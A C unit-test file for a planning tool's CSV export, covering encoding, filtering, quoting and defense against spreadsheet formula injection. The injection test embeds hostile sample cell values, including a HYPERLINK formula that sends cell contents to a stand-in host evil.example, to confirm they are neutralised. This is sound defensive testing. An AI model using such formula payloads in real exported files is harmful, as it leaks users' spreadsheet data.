/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <string.h>

#include "jln-csv.h"
#include "jln-json.h"
#include "jln-table.h"

#include "jln-test-utils.h"

static char *
write_csv (JlnPlan    *plan,
           const char *query_text,
           JlnLang     lang)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JlnQuery) query = query_text != NULL ? jln_query_parse (query_text, &error) : NULL;
  g_autoptr(GBytes) bytes = NULL;

  g_assert_no_error (error);
  bytes = jln_csv_write_actions (plan, query, lang);
  return g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
}

static guint
count_lines_starting (const char *csv,
                      const char *prefix)
{
  g_auto(GStrv) lines = g_strsplit (csv, "\r\n", -1);
  guint n = 0;

  for (guint i = 0; lines[i] != NULL; i++)
    n += g_str_has_prefix (lines[i], prefix);
  return n;
}

/* A spreadsheet opens it as UTF-8, one row per action and sub-item. */
static void
test_csv_whole_plan (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JlnPlan) plan = jln_json_load_plan (JLN_TEST_BUNDLED_PLAN, &error);
  g_autofree char *csv = NULL;

  g_assert_no_error (error);
  csv = write_csv (plan, NULL, JLN_LANG_FR);
  g_assert_true (g_str_has_prefix (csv, "\xef\xbb\xbf\"Kind\",\"Number\",\"Objective\""));
  g_assert_true (g_utf8_validate (csv, -1, NULL));
  g_assert_cmpuint (count_lines_starting (csv, "\"action\""), ==, 112);
  g_assert_cmpuint (count_lines_starting (csv, "\"sub-item\""), ==, 32);
  /* French content, semesters in French, units joined. */
  g_assert_nonnull (strstr (csv, "\"action\",\"1.4\",\"1\",\"Recrutement\",\"Obtenir un logiciel"));
  g_assert_nonnull (strstr (csv, "\"2e sem. 2022\",\"RH\"\r\n"));
  g_assert_nonnull (strstr (csv, "\"sub-item\",\"1.8 a\""));
}

/* The filter keeps only the matching actions, with their sub-items. */
static void
test_csv_filtered (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JlnPlan) plan = jln_json_load_plan (JLN_TEST_BUNDLED_PLAN, &error);
  g_autofree char *csv = write_csv (plan, "objective:6", JLN_LANG_EN);

  g_assert_cmpuint (count_lines_starting (csv, "\"action\""), ==, 4);
  g_assert_nonnull (strstr (csv, "\"action\",\"6.4\""));
  g_assert_null (strstr (csv, "\"action\",\"5.1\""));
}

/* Quotes are doubled, and commas and line breaks stay inside their field. */
static void
test_csv_quoting (void)
{
  const char *json =
    "{\"format\": \"jalons-plan\", \"version\": 1, \"id\": \"00000000-0000-4000-8000-000000000001\","
    " \"title\": {\"en\": \"P\"}, \"objectives\": [{\"id\": \"00000000-0000-4000-8000-000000000002\","
    " \"number\": \"1\", \"title\": {\"en\": \"O\"}, \"actions\": [{\"id\": \"00000000-0000-4000-8000-000000000003\","
    " \"number\": \"1.1\", \"title\": {\"en\": \"Say \\\"hello\\\", then\\nleave\"}}]}]}";
  g_autoptr(GError) error = NULL;
  g_autoptr(JlnPlan) plan = jln_json_read_plan (json, strlen (json), "q.json", &error);
  g_autofree char *csv = NULL;

  g_assert_no_error (error);
  csv = write_csv (plan, NULL, JLN_LANG_EN);
  g_assert_nonnull (strstr (csv, "\"Say \"\"hello\"\", then\nleave\""));
}

/* Texts a spreadsheet would evaluate are written as text, whatever field
 * they are in: title, number, unit, objective. */
static void
test_csv_formula_injection (void)
{
  const char *json =
    "{\"format\": \"jalons-plan\", \"version\": 1, \"id\": \"00000000-0000-4000-8000-000000000001\","
    " \"title\": {\"en\": \"P\"},"
    " \"units\": [{\"id\": \"00000000-0000-4000-8000-000000000009\", \"code\": \"@SUM(A1)\"}],"
    " \"objectives\": [{\"id\": \"00000000-0000-4000-8000-000000000002\","
    " \"number\": \"+1\", \"title\": {\"en\": \"-2+3\"}, \"actions\": ["
    "{\"id\": \"00000000-0000-4000-8000-000000000003\", \"number\": \"=1+1\","
    " \"title\": {\"en\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\")\"},"
    " \"units\": [\"00000000-0000-4000-8000-000000000009\"]},"
    "{\"id\": \"00000000-0000-4000-8000-000000000004\", \"number\": \"1.2\","
    " \"title\": {\"en\": \"\\tTabbed\"}},"
    "{\"id\": \"00000000-0000-4000-8000-000000000005\", \"number\": \"1.3\","
    " \"title\": {\"en\": \"\\rReturn\"}},"
    "{\"id\": \"00000000-0000-4000-8000-000000000006\", \"number\": \"1.4\","
    " \"title\": {\"en\": \"Safe = text - here\"}}]}]}";
  g_autoptr(GError) error = NULL;
  g_autoptr(JlnPlan) plan = jln_json_read_plan (json, strlen (json), "f.json", &error);
  g_autofree char *csv = NULL;

  g_assert_no_error (error);
  csv = write_csv (plan, NULL, JLN_LANG_EN);
  g_assert_nonnull (strstr (csv, "\"'=1+1\""));
  g_assert_nonnull (strstr (csv, "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
  g_assert_nonnull (strstr (csv, "\"'+1\""));
  g_assert_nonnull (strstr (csv, "\"'-2+3\""));
  g_assert_nonnull (strstr (csv, "\"'@SUM(A1)\""));
  g_assert_nonnull (strstr (csv, "\"'\tTabbed\""));
  g_assert_nonnull (strstr (csv, "\"'\rReturn\""));
  /* Only a first character counts. */
  g_assert_nonnull (strstr (csv, "\"Safe = text - here\""));
  /* No cell begins with a formula character. */
  g_assert_null (strstr (csv, ",\"="));
  g_assert_null (strstr (csv, ",\"+"));
  g_assert_null (strstr (csv, ",\"@"));

  /* Jalons' own reader gives the texts back as they were. */
  {
    g_autoptr(GPtrArray) tables = jln_table_read_text (csv, strlen (csv), "f.csv", 0, &error);
    gboolean found_formula = FALSE, found_unit = FALSE, found_tab = FALSE;
    JlnTable *table;

    g_assert_no_error (error);
    g_assert_cmpuint (tables->len, ==, 1);
    table = g_ptr_array_index (tables, 0);
    for (guint i = 0; i < table->rows->len; i++)
      {
        const JlnTableRow *row = g_ptr_array_index (table->rows, i);

        for (guint j = 0; j < row->n_cells; j++)
          {
            const char *cell = jln_table_row_get_cell (row, j);

            g_assert_false (cell[0] == '\'' && jln_csv_is_formula_start (cell[1]));
            found_formula |= g_str_equal (cell, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
            found_unit |= g_str_equal (cell, "@SUM(A1)");
            found_tab |= g_str_equal (cell, "\tTabbed");
          }
      }
    g_assert_true (found_formula);
    g_assert_true (found_unit);
    g_assert_true (found_tab);
  }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/core/csv/whole-plan", test_csv_whole_plan);
  g_test_add_func ("/core/csv/filtered", test_csv_filtered);
  g_test_add_func ("/core/csv/quoting", test_csv_quoting);
  g_test_add_func ("/core/csv/formula-injection", test_csv_formula_injection);

  return g_test_run ();
}
